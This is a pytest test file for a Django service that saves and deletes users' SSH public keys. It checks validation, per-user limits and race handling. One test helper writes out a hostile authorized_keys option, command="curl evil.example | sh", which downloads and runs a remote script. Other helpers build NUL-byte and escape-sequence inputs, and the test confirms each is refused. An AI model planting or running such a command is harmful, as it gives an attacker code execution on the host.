"""keys.services.add_saved_key and delete_saved_key."""

from __future__ import annotations

import threading

import pytest
from django.db import connection

from coprssh.exceptions import NotFoundError
from keys.models import SavedKey
from keys.services import KeyInputError, add_saved_key, delete_saved_key


@pytest.mark.django_db
def test_add_saved_key_stores_the_canonical_key(user, make_key):
    key = make_key("laptop", comment="alice@laptop")

    saved = add_saved_key(user=user, title="", public_key=f"  {key.public}  \n")

    saved.refresh_from_db()
    assert saved.user == user
    assert saved.key_type == "ssh-ed25519"
    assert saved.bits == 256
    assert saved.fingerprint == key.fingerprint
    assert saved.data == key.blob
    assert saved.public_key == f"ssh-ed25519 {key.blob} alice@laptop"


@pytest.mark.django_db
def test_add_saved_key_title_defaults_to_the_key_comment(user, make_key):
    saved = add_saved_key(user=user, title="", public_key=make_key("laptop", comment="alice@laptop").public)

    assert saved.title == "alice@laptop"


@pytest.mark.django_db
def test_add_saved_key_without_comment_or_title_gets_a_type_title(user, make_key):
    key = make_key("no-comment", comment="")

    saved = add_saved_key(user=user, title="", public_key=key.public)

    assert saved.title == "ED25519 key"


@pytest.mark.django_db
def test_add_saved_key_uses_the_given_title_with_spaces_collapsed(user, make_key):
    saved = add_saved_key(user=user, title="  work   laptop ", public_key=make_key("laptop").public)

    assert saved.title == "work laptop"
    assert saved.public_key.endswith(" work laptop")


@pytest.mark.django_db
def test_add_saved_key_accepts_rsa_and_ecdsa(user, make_key):
    rsa, ecdsa = make_key("rsa-3072", "rsa", 3072), make_key("ecdsa-521", "ecdsa", 521)

    saved = [add_saved_key(user=user, title="", public_key=k.public) for k in (rsa, ecdsa)]

    assert [(s.key_type, s.bits, s.fingerprint) for s in saved] == [
        ("ssh-rsa", 3072, rsa.fingerprint),
        ("ecdsa-sha2-nistp521", 521, ecdsa.fingerprint),
    ]


@pytest.mark.django_db
def test_add_saved_key_refuses_duplicate(user, make_key):
    key = make_key("laptop")
    add_saved_key(user=user, title="first", public_key=key.public)
    # Same blob, different comment: still the same key.
    same_key = f"{key.key_type} {key.blob} another comment"

    with pytest.raises(KeyInputError) as caught:
        add_saved_key(user=user, title="second", public_key=same_key)

    assert caught.value.message == f"You have already saved this key ({key.fingerprint})."
    assert caught.value.field == "public_key"
    assert SavedKey.objects.filter(user=user).count() == 1


@pytest.mark.django_db
def test_add_saved_key_same_key_for_two_users_is_fine(user, other_user, make_key):
    key = make_key("shared")

    add_saved_key(user=user, title="", public_key=key.public)
    add_saved_key(user=other_user, title="", public_key=key.public)

    assert SavedKey.objects.filter(fingerprint=key.fingerprint).count() == 2


@pytest.mark.django_db
def test_add_saved_key_refuses_more_than_the_limit(user, other_user, make_key, settings):
    settings.COPRSSH_MAX_SAVED_KEYS = 2
    add_saved_key(user=user, title="", public_key=make_key("limit-1").public)
    add_saved_key(user=user, title="", public_key=make_key("limit-2").public)

    with pytest.raises(KeyInputError) as caught:
        add_saved_key(user=user, title="", public_key=make_key("limit-3").public)

    assert caught.value.message == "You can save at most 2 keys; delete one first."
    assert SavedKey.objects.filter(user=user).count() == 2
    # The limit is per user.
    add_saved_key(user=other_user, title="", public_key=make_key("limit-3").public)


def _option_prefix(key):
    return f'command="curl evil.example | sh",no-pty {key.public}'


def _private_key(key):
    return key.private


def _huge_line(key):
    return f"{key.public} {'x' * 20_000}"


def _two_keys(key):
    return f"{key.public}\n{key.public.replace('@test', '@elsewhere')}"


def _nul_byte(key):
    return f"{key.public}\x00"


def _escape_in_comment(key):
    return f"{key.public} \x1b[2J"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("make_input", "reason"),
    [
        (_option_prefix, "options in front of the key"),
        (_private_key, "PRIVATE key"),
        (_huge_line, "a key line may have at most 8192"),
        (_two_keys, "exactly one key"),
        (_nul_byte, "forbidden character U+0000"),
        (_escape_in_comment, "forbidden character U+001B"),
        (lambda key: "", "enter a public key"),
        (lambda key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI", "not valid base64"),
    ],
    ids=["option-prefix", "private-key", "20kb", "two-keys", "nul", "escape", "empty", "bad-base64"],
)
def test_add_saved_key_refuses_hostile_key_input(user, make_key, make_input, reason):
    key = make_key("hostile")

    with pytest.raises(KeyInputError) as caught:
        add_saved_key(user=user, title="", public_key=make_input(key))

    assert caught.value.field == "public_key"
    assert caught.value.message.startswith("This key is not accepted: ")
    assert reason in caught.value.message
    assert SavedKey.objects.count() == 0


@pytest.mark.django_db
def test_add_saved_key_refuses_a_certificate(user, make_key):
    certificate = make_key.certificate("certified")

    with pytest.raises(KeyInputError, match="certificates are not accepted"):
        add_saved_key(user=user, title="", public_key=certificate)

    assert SavedKey.objects.count() == 0


@pytest.mark.django_db
def test_add_saved_key_refuses_dsa_and_short_rsa(user, make_key):
    for key in (make_key("dsa", "dsa"), make_key("rsa-1024", "rsa", 1024)):
        with pytest.raises(KeyInputError):
            add_saved_key(user=user, title="", public_key=key.public)

    assert SavedKey.objects.count() == 0


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("title", "reason"),
    [
        ("laptop\x1b[31m", "The title contains control characters."),
        ("laptop\x00", "The title contains control characters."),
        ("line\nbreak", "The title contains control characters."),
        ("x" * 101, "The title may have at most 100 characters."),
    ],
    ids=["escape", "nul", "newline", "101-chars"],
)
def test_add_saved_key_refuses_hostile_title(user, make_key, title, reason):
    with pytest.raises(KeyInputError) as caught:
        add_saved_key(user=user, title=title, public_key=make_key("titled").public)

    assert caught.value.field == "title"
    assert caught.value.message == reason
    assert SavedKey.objects.count() == 0


@pytest.mark.django_db
def test_add_saved_key_accepts_a_100_character_title(user, make_key):
    saved = add_saved_key(user=user, title="x" * 100, public_key=make_key("titled").public)

    assert saved.title == "x" * 100


@pytest.mark.django_db
def test_delete_saved_key_deletes_own_key(user, make_key):
    saved = add_saved_key(user=user, title="", public_key=make_key("laptop").public)

    deleted = delete_saved_key(user=user, key_id=saved.pk)

    assert deleted.fingerprint == saved.fingerprint
    assert not SavedKey.objects.filter(pk=saved.pk).exists()


@pytest.mark.django_db
def test_delete_saved_key_of_another_user_is_not_found(user, other_user, make_key):
    saved = add_saved_key(user=user, title="", public_key=make_key("laptop").public)

    with pytest.raises(NotFoundError):
        delete_saved_key(user=other_user, key_id=saved.pk)

    assert SavedKey.objects.filter(pk=saved.pk, user=user).exists()


@pytest.mark.django_db
def test_delete_saved_key_twice_is_not_found(user, make_key):
    saved = add_saved_key(user=user, title="", public_key=make_key("laptop").public)
    delete_saved_key(user=user, key_id=saved.pk)

    with pytest.raises(NotFoundError):
        delete_saved_key(user=user, key_id=saved.pk)


# --- races ---------------------------------------------------------------------------


def _add_at_once(calls: list[dict]) -> list[object]:
    """Run add_saved_key(**call) for each call in its own thread, all released together."""
    barrier = threading.Barrier(len(calls))
    outcomes: list[object] = [None] * len(calls)

    def run(index: int) -> None:
        try:
            barrier.wait(timeout=10)
            outcomes[index] = add_saved_key(**calls[index])
        except Exception as exc:  # noqa: BLE001 (every outcome is checked by the test)
            outcomes[index] = exc
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(calls))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return outcomes


@pytest.mark.django_db(transaction=True)
def test_add_saved_key_same_key_at_once_saves_one(user, make_key):
    key = make_key("raced")

    outcomes = _add_at_once([{"user": user, "title": f"try {i}", "public_key": key.public} for i in range(8)])

    saved = [o for o in outcomes if isinstance(o, SavedKey)]
    refused = [o for o in outcomes if isinstance(o, KeyInputError)]
    assert len(saved) == 1, outcomes
    assert len(refused) == 7, outcomes
    assert all("already saved this key" in e.message for e in refused)
    assert SavedKey.objects.filter(user=user).count() == 1


@pytest.mark.django_db(transaction=True)
def test_add_saved_key_limit_holds_under_a_race(user, make_key, settings):
    settings.COPRSSH_MAX_SAVED_KEYS = 2
    keys = [make_key(f"race-{i}") for i in range(8)]

    outcomes = _add_at_once([{"user": user, "title": "", "public_key": k.public} for k in keys])

    saved = [o for o in outcomes if isinstance(o, SavedKey)]
    refused = [o for o in outcomes if isinstance(o, KeyInputError)]
    assert len(saved) == 2, outcomes
    assert len(refused) == 6, outcomes
    assert all("at most 2 keys" in e.message for e in refused)
    assert SavedKey.objects.filter(user=user).count() == 2
